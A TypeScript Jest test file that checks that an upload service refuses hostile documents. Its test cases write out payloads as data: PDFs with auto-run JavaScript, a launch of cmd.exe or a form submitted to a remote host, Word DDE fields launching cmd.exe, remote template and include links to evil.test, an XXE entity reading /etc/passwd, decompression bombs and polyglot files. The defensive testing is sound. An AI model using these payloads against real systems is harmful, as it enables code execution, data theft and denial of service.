import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { filesKept } from './support/documents.js';
import {
  bomb,
  docx,
  field,
  inside,
  nested,
  pdfHiding,
  pdfOfHiddenPages,
  pdfOfPages,
  pdfWith,
  pngOf,
  relation,
  word,
} from './support/hostile.js';
import type { Person } from './support/person.js';
import { office, pdf, png, zip } from './support/samples.js';
import { World } from './support/world.js';

let w: World;
let secretary: Person;
beforeAll(async () => {
  w = await World.create();
  secretary = await w.person('SECRETARY', await w.cell());
});
afterAll(() => w?.end());

const MB = 1024 * 1024;
const DOCUMENT_RELATIONS = 'word/_rels/document.xml.rels';
const SETTINGS_RELATIONS = 'word/_rels/settings.xml.rels';
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

describe('a hostile file is refused at the door', () => {
  it.each<[string, string, () => Buffer, string]>([
    [
      'a PDF that runs a script when opened',
      'a.pdf',
      () => pdfWith('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
      'FILE_ACTIVE',
    ],
    [
      'the same with letters written as numbers',
      'a.pdf',
      () => pdfWith('/OpenAction << /S /J#61vaScript /JS (x) >>'),
      'FILE_ACTIVE',
    ],
    [
      'the same in a packed stream of objects',
      'a.pdf',
      () => pdfHiding('1 0 << /S /JavaScript /JS (x) >>'),
      'FILE_ACTIVE',
    ],
    [
      'the same in a stream packed twice',
      'a.pdf',
      () => pdfHiding('x', '[ /FlateDecode /FlateDecode ]', deflateSync(deflateSync('<< /S /JavaScript >>'))),
      'FILE_TYPE_REFUSED',
    ],
    ['a PDF that starts a program', 'a.pdf', () => pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'FILE_ACTIVE'],
    [
      'a PDF with a file inside',
      'a.pdf',
      () =>
        pdfWith(
          '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>',
          '<< /Length 2 >>\nstream\nMZ\nendstream',
        ),
      'FILE_ACTIVE',
    ],
    [
      'a PDF with a form in a language of its own',
      'a.pdf',
      () => pdfWith('/AcroForm << /XFA [(a) 4 0 R] >>'),
      'FILE_ACTIVE',
    ],
    [
      'a PDF that sends what is typed into it away',
      'a.pdf',
      () => pdfWith('/OpenAction << /S /SubmitForm /F (http://x.test) >>'),
      'FILE_REMOTE',
    ],
    ['a PDF of 100,000 pages', 'a.pdf', () => pdfOfPages(100_000), 'FILE_TOO_MANY_PAGES'],
    ['a PDF of 6,000 pages that says it has one', 'a.pdf', () => pdfOfHiddenPages(6000), 'FILE_TOO_MANY_PAGES'],
    [
      'a PDF that unpacks to gigabytes',
      'a.pdf',
      () => pdfHiding('', '/FlateDecode', deflateSync(Buffer.alloc(250 * MB, 32))),
      'FILE_UNPACKS_TOO_LARGE',
    ],
    [
      'a PDF that is a page of HTML as well',
      'a.pdf',
      () => Buffer.concat([Buffer.from('<html><script>x()</script>\n'), pdf()]),
      'FILE_TYPE_REFUSED',
    ],
    [
      'a PDF that is an archive as well',
      'a.pdf',
      () => Buffer.concat([pdf(), zip({ 'a.exe': 'MZ' })]),
      'FILE_TYPE_REFUSED',
    ],
    [
      'a PDF with a page of HTML behind its end',
      'a.pdf',
      () => Buffer.concat([pdf(), Buffer.from(`<script>${'x'.repeat(100)}</script>`)]),
      'FILE_TYPE_REFUSED',
    ],
    ['a PDF that is cut off', 'a.pdf', () => pdf('cut').subarray(0, 400), 'FILE_UNREADABLE'],
    [
      'a Word paper with a template from afar',
      'a.docx',
      () => docx(['x'], { [SETTINGS_RELATIONS]: relation('attachedTemplate', 'http://evil.test/a.dotm') }),
      'FILE_REMOTE',
    ],
    [
      'the same from a share of the network',
      'a.docx',
      () => docx(['x'], { [SETTINGS_RELATIONS]: relation('attachedTemplate', 'file://10.0.0.1/share/a.dotm') }),
      'FILE_REMOTE',
    ],
    [
      'the same written as \\\\server\\share',
      'a.docx',
      () => docx(['x'], { [SETTINGS_RELATIONS]: relation('attachedTemplate', '\\\\evil\\a.dotm') }),
      'FILE_REMOTE',
    ],
    [
      'a Word paper with a picture that is fetched',
      'a.docx',
      () => docx(['x'], { [DOCUMENT_RELATIONS]: relation('image', 'https://evil.test/a.png') }),
      'FILE_REMOTE',
    ],
    [
      'a Word paper with an object of another program',
      'a.docx',
      () =>
        docx(['x'], {
          [DOCUMENT_RELATIONS]: relation('oleObject', 'embeddings/oleObject1.bin', false),
          'word/embeddings/oleObject1.bin': 'x',
        }),
      'FILE_ACTIVE',
    ],
    [
      'the same under another name',
      'a.docx',
      () =>
        docx(['x'], {
          [DOCUMENT_RELATIONS]: relation('oleObject', 'media/image1.png', false),
          'word/media/image1.png': 'x',
        }),
      'FILE_ACTIVE',
    ],
    [
      'a Word paper with macros under another name',
      'a.docx',
      () =>
        docx(['x'], { [DOCUMENT_RELATIONS]: relation('vbaProject', 'media/x.bin', false), 'word/media/x.bin': 'x' }),
      'FILE_ACTIVE',
    ],
    [
      'a Word paper that takes in a page of HTML',
      'a.docx',
      () => docx(['x'], { [DOCUMENT_RELATIONS]: relation('aFChunk', 'a.xhtml', false), 'word/a.xhtml': 'x' }),
      'FILE_ACTIVE',
    ],
    [
      'a Word paper with a field that starts a program',
      'a.docx',
      () => word(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
      'FILE_ACTIVE',
    ],
    ['the same cut into several runs', 'a.docx', () => word(field(' DD', 'EAU', 'TO cmd')), 'FILE_ACTIVE'],
    ['the same with letters written as numbers', 'a.docx', () => word(field(' &#68;&#x44;E cmd')), 'FILE_ACTIVE'],
    [
      'the same as a simple field',
      'a.docx',
      () => word('<w:p><w:fldSimple w:instr="DDE cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
      'FILE_ACTIVE',
    ],
    [
      'a Word paper that takes in a text from afar',
      'a.docx',
      () => word(field(' INCLUDETEXT "http://evil.test/a.docx"')),
      'FILE_REMOTE',
    ],
    [
      'a table that asks another program',
      'a.xlsx',
      () =>
        office('xlsx', {
          'xl/externalLinks/externalLink1.xml':
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        }),
      'FILE_ACTIVE',
    ],
    [
      'a Word paper with a document type',
      'a.docx',
      () => docx(['x'], { 'word/comments.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }),
      'FILE_TYPE_REFUSED',
    ],
    [
      'the same in an encoding that hides it',
      'a.docx',
      () =>
        zip({
          '[Content_Types].xml': '<Types/>',
          'word/document.xml': utf16('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'),
        }),
      'FILE_TYPE_REFUSED',
    ],
    ['a Word paper that unpacks to 400 MB', 'a.docx', () => bomb(400 * MB), 'FILE_UNPACKS_TOO_LARGE'],
    ['the same with a directory that says 1 kB', 'a.docx', () => bomb(310 * MB, 1000), 'FILE_TYPE_REFUSED'],
    [
      'an archive of 20,000 parts',
      'a.docx',
      () => office('docx', Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`word/media/${i}.png`, '']))),
      'FILE_UNPACKS_TOO_LARGE',
    ],
    ['papers inside each other without end', 'a.docx', () => nested(5), 'FILE_UNPACKS_TOO_LARGE'],
    [
      'a Word paper with macros in the table inside it',
      'a.docx',
      () => inside(office('xlsx', { 'xl/vbaProject.bin': 'x' })),
      'FILE_ACTIVE',
    ],
    [
      'a Word paper with a program inside',
      'a.docx',
      () => docx(['x'], { 'word/embeddings/a.exe': 'MZ' }),
      'FILE_ACTIVE',
    ],
    [
      'a Word paper behind a page of HTML',
      'a.docx',
      () => Buffer.concat([Buffer.from('<script>x()</script>'), docx(['x'])]),
      'FILE_TYPE_REFUSED',
    ],
    ['a picture of 60,000 by 60,000 points', 'a.png', () => pngOf(60_000, 60_000), 'FILE_IMAGE_TOO_LARGE'],
    ['a picture 200,000 points wide', 'a.png', () => pngOf(200_000, 2), 'FILE_IMAGE_TOO_LARGE'],
    [
      'a picture that is an archive as well',
      'a.png',
      () => Buffer.concat([png(), zip({ 'a.exe': 'MZ' })]),
      'FILE_TYPE_REFUSED',
    ],
    [
      'a drawing with a script',
      'a.svg',
      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'),
      'FILE_TYPE_REFUSED',
    ],
    [
      'the same that calls itself a picture',
      'a.png',
      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'),
      'FILE_TYPE_REFUSED',
    ],
  ])('%s', async (_, name, content, reason) => {
    const before = await filesKept(w);
    const { status, body } = await secretary.upload(name, content());
    expect({ status, reason: body['reason'] }).toEqual({ status: 422, reason });
    expect(body['message']).toMatch(/[ạ-ỹđ]/);
    expect(await filesKept(w)).toEqual(before);
  });
});
